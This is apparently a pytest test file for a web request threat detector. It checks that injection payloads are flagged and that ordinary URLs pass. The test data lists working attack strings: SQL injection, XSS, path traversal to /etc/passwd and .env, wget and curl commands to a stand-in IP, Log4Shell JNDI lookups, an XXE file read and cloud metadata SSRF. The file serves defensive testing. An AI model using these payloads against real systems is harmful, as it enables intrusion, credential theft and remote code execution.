"""Injection in URL, headers and body."""

import json
import time

import pytest

from apis.threats import judge_call, judge_value
from apis.threats.decoding import hidden, layers
from apis.threats.texts import THRESHOLD
from apis.threats.values import MOST, body_values, of_call
from apis.threats.words import FAMILIES, reason_words

ATTACKS = [
    ("/items?id=1%27%20or%20%271%27%3D%271", "sql"),
    ("/items?id=1+union+all+select+name,pass+from+users", "sql"),
    ("/items?id=1;drop+table+users--", "sql"),
    ("/items?id=1/**/and/**/sleep(5)", "sql"),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
    ("/search?q=%253Cscript%253Ealert(1)", "xss"),
    ("/search?q=<img+src=x+onerror=alert(1)>", "xss"),
    ("/go?to=javascript:alert(document.cookie)", "xss"),
    ("/files?name=..%2f..%2fetc%2fpasswd", "traversal"),
    ("/static/%2e%2e/%2e%2e/app/.env", "traversal"),
    ("/ping?host=example.org;wget+http://198.51.100.7/x.sh", "command"),
    ("/ping?host=$(curl+198.51.100.7)", "command"),
    ("/ping?host=x;w''get+http://198.51.100.7/", "command"),
    ("/hello?name={{7*7}}", "template"),
    ("/hello?name=%24%7B7*7%7D", "template"),
    ("/hello?name=<?php+system('id')", "php"),
    ("/log?x=${jndi:ldap://198.51.100.7/a}", "java"),
    ("/log?x=${${lower:j}ndi:ldap://198.51.100.7/a}", "java"),
    ("/user?name=*)(uid=*))(|(uid=*", "ldap"),
    ("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
    ("/fetch?url=gopher://127.0.0.1:6379/_x", "ssrf"),
    ("/find?user[$ne]=x", "nosql"),
    ("/set?__proto__[admin]=1", "script"),
    ("/next?to=a%0d%0aSet-Cookie:+a=b", "protocol"),
]
ORDINARY = [
    "/v1/orders/4711?from=2026-01-01&to=2026-01-31&sort=-created",
    "/search?q=O%27Neil+%26+Sons",
    "/search?q=select+all+rooms+from+the+list",
    "/search?q=Union+Berlin+order+by+price",
    "/search?q=5+%3C+6+and+7+%3E+2",
    "/profile?name=M%C3%BCller%3B+S%C3%B6hne",
    "/v1/chat/completions",
    "/callback?code=4%2F0AfJohXkz1_abcDEF&state=Zm9vYmFyYmF6cXV4",
    "/t?ts=1712345678901&id=8b1f5d6e-5c0e-4d1a-9f57-1f1c9b0f7b51",
    "/page?title=Tom+%26+Jerry+(1940)",
    "/price?formula=(a%2Bb)*c",
]


@pytest.mark.parametrize(("address", "family"), ATTACKS)
def test_an_attack_is_named_by_its_family(address, family):
    verdict = judge_call(address, cautious=False)
    assert verdict.score >= THRESHOLD, verdict
    assert family in verdict.families


@pytest.mark.parametrize("address", ORDINARY)
def test_ordinary_addresses_pass(address):
    verdict = judge_call(
        address, {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}
    )
    assert verdict.score < THRESHOLD, verdict


@pytest.mark.parametrize(
    ("body", "family"),
    [
        (json.dumps({"filter": {"name": {"$where": "1"}}}), "nosql"),
        (json.dumps({"a": [{"b": "x' or 1=1 -- "}]}), "sql"),
        ("name=Ada&comment=%3Cscript%3Ex", "xss"),
        ('<?xml version="1.0"?><a b="1 union select 2">x</a>', "sql"),
        ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "xxe"),
        ('--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nhello\r\n--b--', "upload"),
        ("{not json <script>alert(1)</script>", "xss"),
    ],
)
def test_bodies_are_read_by_their_shape(body, family):
    assert family in judge_call("/x", {}, body).families


def test_names_of_xml_elements_are_no_input():
    assert judge_call("/x", {}, '<?xml version="1.0"?><a><java.lang.Runtime b="1">x</java.lang.Runtime></a>').score == 0


def test_headers_are_read_except_those_of_the_program():
    assert judge_call("/", {"X-Filename": "shell.phtml"}).families == ("upload",)
    assert "sql" in judge_call("/", {"Cookie": "id=1' or '1'='1"}).families
    assert "xss" in judge_call("/", {"Referer": "https://example.org/?q=<script>alert(1)</script>"}).families
    assert judge_call("/", {"User-Agent": "sqlmap/1.8"}).families == ("scanner",)
    assert judge_call("/", {"Accept": "<script>"}).score == 0
    assert judge_call("/", {"Referer": "http://[bad"}).score < THRESHOLD


def test_a_session_given_by_a_stranger_is_noticed():
    given = {"Host": "shop.example", "Referer": "https://evil.example/"}
    assert judge_call("/login?PHPSESSID=abc", given).reasons == ("protocol.session_fixation",)
    assert judge_call("/login?PHPSESSID=abc", {"Host": "shop.example", "Referer": "https://shop.example/"}).score == 0


def test_commands_weigh_less_where_they_are_the_subject_of_a_text():
    text = "please explain to my colleague what the command does: cat /etc/hosts; ls -la and when one would use it"
    assert (
        judge_value(text, "body", cautious=False).score < judge_value("x;cat /etc/hosts", "body", cautious=False).score
    )


def test_judged_cautiously_a_command_alone_is_not_enough():
    attack = "/run?x=a;wget+-q+x.sh"
    assert judge_call(attack).score < THRESHOLD <= judge_call(attack, cautious=False).score
    assert judge_call("/run?x=1'+or+'1'='1").score >= THRESHOLD


def test_layers_are_taken_off():
    assert "<script>" in layers("%253Cscript%253E")
    assert "union  select" in layers("union/**/select")
    assert any("select" in one for one in layers("c2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnM="))
    assert hidden("00" * 20) == []
    assert "ignore" in layers("\\u0069gnore")[0]


def test_values_are_bounded():
    assert len(of_call("/?" + "&".join(f"a{n}=1" for n in range(1000)))) == MOST
    deep = "[" * 60 + '"x"' + "]" * 60
    assert list(body_values(deep)) == []


@pytest.mark.parametrize(
    "part", ["'", "${", "{{", "<", "../", "select ", "(", "%25", "\\", "a'", "/*", ";cat ", "union("]
)
def test_hostile_strings_cost_no_more_than_their_length(part):
    short, long = (part * 5000)[:2048], (part * 5000)[:8192]
    began = time.perf_counter()
    judge_value(short + "!", "body")
    middle = time.perf_counter()
    judge_value(long + "!", "body")
    assert time.perf_counter() - middle < max(40 * (middle - began), 1.0)


def test_reasons_have_words():
    assert str(reason_words("sql.union")) == "SQL"
    assert reason_words("nonsense") == "nonsense"
    assert set(FAMILIES) >= {family for _address, family in ATTACKS}
